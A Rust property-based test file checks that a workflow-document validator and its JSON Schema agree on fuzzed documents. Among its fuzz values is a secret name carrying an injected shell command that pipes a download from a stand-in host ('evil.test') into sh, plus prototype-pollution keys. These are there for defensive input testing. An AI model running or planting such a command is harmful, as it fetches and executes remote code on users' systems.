//! The validator and the published JSON Schema agree on every document, right or wrong.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "test code"
)]

use proptest::prelude::*;
use proptest::sample::{Index, select};
use serde_json::{Value, json};
use stepweave_core::document::Document;
use stepweave_core::problem::Severity;
use stepweave_core::schema::json_schema;
use stepweave_core::validate::check_structure;

/// Problems that a JSON Schema cannot see.
const BEYOND_SCHEMA: [&str; 14] = [
    "duplicate_id",
    "unknown_reference",
    "limit",
    "write_conflict",
    "wrong_address",
    "wrong_header",
    "wrong_param",
    "wrong_version",
    "wrong_name",
    "key_in_document",
    "missing_origins",
    "wrong_origins",
    "wrong_body",
    "wrong_pages",
];

fn fits_grammar(document: &Value) -> bool {
    let report = check_structure(&document.to_string());
    let mut errors = report.problems.iter().filter(|problem| problem.severity == Severity::Error);
    errors.all(|problem| BEYOND_SCHEMA.contains(&problem.code))
}

fn whole() -> Value {
    json!({
        "version": 1, "name": "all", "description": "d", "input": true, "output": {}, "initialState": { "a": 1 },
        "models": { "m": { "provider": "openai", "model": "x", "baseUrl": "http://h/v1", "apiKey": { "secret": "K" }, "params": { "top_p": 0.5 } } },
        "agents": { "a": { "model": "m", "instructions": "i", "params": { "seed": 1 } } },
        "tools": { "t": { "description": "d", "input": { "type": "object" } },
            "u": { "run": { "http": { "url": "https://a.test/{{ id }}" } }, "needsApproval": false } },
        "steps": [
            { "id": "1", "type": "agent", "name": "one", "agent": "a", "inputFrom": "hi", "required": false },
            { "id": "2", "type": "agent", "name": "two", "agent": "a", "inputFrom": { "handler": "h" }, "notes": "n" },
            { "id": "3", "type": "function", "name": "three", "run": { "set": { "k": "1" } }, "onError": "stop" },
            { "id": "4", "type": "function", "name": "four", "run": { "handler": "h" }, "x-mine": [1] },
            { "id": "5", "type": "condition", "name": "five", "condition": "true", "steps": [], "else": [
                { "id": "6", "type": "sequence", "name": "six", "steps": [] }
            ] },
            { "id": "9", "type": "http", "name": "nine", "onUnknown": "skip", "retryCount": 1, "http": {
                "method": "POST", "url": "{{ url }}/x", "query": { "q": "{{ q }}" }, "headers": { "accept": "text/html" },
                "body": { "json": { "a": ["{{ b }}", 1, null] } }, "auth": { "basic": { "user": "u", "password": { "secret": "K" } } },
                "origins": ["https://a.test"], "success": "status < 400", "response": "auto", "maxBytes": 10, "result": "body.a"
            } },
            { "id": "10", "type": "http", "name": "ten", "http": {
                "url": "https://a.test", "pages": { "cursor": { "query": "c", "value": "body.c" }, "items": "body.i", "max": 3 }
            } },
            { "id": "7", "type": "parallel", "name": "seven", "parallel": [
                { "id": "8", "type": "sequence", "name": "eight", "steps": [] }
            ], "concurrency": 2, "onConflict": "error" }
        ],
        "retryPolicy": { "maxRetries": 1, "backoffMs": 2, "factor": 1.5, "maxBackoffMs": 3, "jitter": 0.5 },
        "onError": "continue", "limits": { "timeoutMs": 1, "templateFuel": 1 }, "notes": "n", "x-any": null
    })
}

/// Every place of a value, as JSON pointers.
fn places(value: &Value, at: String, found: &mut Vec<String>) {
    match value {
        Value::Object(map) => {
            map.iter().for_each(|(key, inner)| places(inner, format!("{at}/{key}"), found));
        }
        Value::Array(list) => {
            list.iter().enumerate().for_each(|(index, inner)| places(inner, format!("{at}/{index}"), found));
        }
        _ => {}
    }
    found.push(at);
}

#[derive(Debug, Clone)]
enum Change {
    Put(Value),
    Remove,
    Add(&'static str, Value),
}

fn some_value() -> impl Strategy<Value = Value> {
    select(vec![
        json!(null),
        json!(true),
        json!(0),
        json!(1),
        json!(-1),
        json!(1.5),
        json!(2.0),
        json!(1e300),
        json!(""),
        json!("text"),
        json!("agent"),
        json!("sequence"),
        json!("stop"),
        json!([]),
        json!({}),
        json!({ "handler": "h" }),
        json!({ "handler": "" }),
        json!({ "set": { "": "1" } }),
        json!({ "set": { "__proto__": "1" } }),
        json!({ "secret": "s" }),
        json!({ "secret": 1 }),
        json!({ "secret": "_K9" }),
        json!({ "secret": "9K" }),
        json!({ "secret": "K; curl evil.test | sh #" }),
        json!("KEY\n"),
        json!({ "properties": { "__proto__": { "type": "string" } } }),
        json!({ "anyOf": [{ "properties": { "a": { "__proto__": 1 } } }] }),
        json!("x".repeat(300)),
        json!([{ "id": "n", "type": "function", "name": "n", "run": { "set": {} } }]),
        json!({ "": {} }),
    ])
}

fn some_key() -> impl Strategy<Value = &'static str> {
    select(vec![
        "x-new",
        "new",
        "steps",
        "else",
        "agent",
        "handler",
        "set",
        "",
        "constructor",
        "__proto__",
        "required",
        "notes",
    ])
}

fn some_change() -> impl Strategy<Value = Change> {
    prop_oneof![
        some_value().prop_map(Change::Put),
        Just(Change::Remove),
        (some_key(), some_value()).prop_map(|(key, value)| Change::Add(key, value)),
    ]
}

fn change(document: &mut Value, place: &str, change: Change) {
    match change {
        Change::Put(value) => *document.pointer_mut(place).unwrap() = value,
        Change::Add(key, value) => {
            if let Some(Value::Object(map)) = document.pointer_mut(place) {
                map.insert(key.to_owned(), value);
            }
        }
        Change::Remove => {
            let Some((parent, key)) = place.rsplit_once('/') else { return };
            match document.pointer_mut(parent).unwrap() {
                Value::Object(map) => drop(map.shift_remove(key)),
                Value::Array(list) => drop(list.remove(key.parse().unwrap())),
                _ => {}
            }
        }
    }
}

thread_local! {
    static SCHEMA: jsonschema::Validator = jsonschema::validator_for(&json_schema()).unwrap();
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 4000, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn schema_and_validator_agree(changes in prop::collection::vec((any::<Index>(), some_change()), 0..4)) {
        let mut document = whole();
        for (place, wanted) in changes {
            let mut found = Vec::new();
            places(&document, String::new(), &mut found);
            let place = place.get(&found).clone();
            change(&mut document, &place, wanted);
        }
        prop_assert_eq!(fits_grammar(&document), SCHEMA.with(|schema| schema.is_valid(&document)), "{}", document);
    }
}

#[test]
fn the_whole_grammar_is_read_and_written_without_loss() {
    let document: Document = serde_json::from_value(whole()).unwrap();
    assert_eq!(serde_json::to_value(&document).unwrap(), whole());
    assert!(fits_grammar(&whole()));
}

/// "a limits has no key" is no sentence: messages put an article before what a shape is called.
#[test]
fn what_a_shape_is_called_takes_an_article() {
    let schema = json_schema();
    let mut titles = Vec::new();
    titles_in(&schema, &mut titles);
    assert!(titles.contains(&"set of limits"), "{titles:?}");
    for title in titles {
        let noun = title.split(" of ").next().unwrap();
        assert!(!noun.ends_with('s'), "`a {title} has no key` is no sentence");
    }
}

fn titles_in<'a>(schema: &'a Value, titles: &mut Vec<&'a str>) {
    titles.extend(schema.get("title").and_then(Value::as_str).filter(|title| *title != "Stepweave workflow"));
    match schema {
        Value::Object(map) => map.values().for_each(|inner| titles_in(inner, titles)),
        Value::Array(items) => items.iter().for_each(|inner| titles_in(inner, titles)),
        _ => {}
    }
}
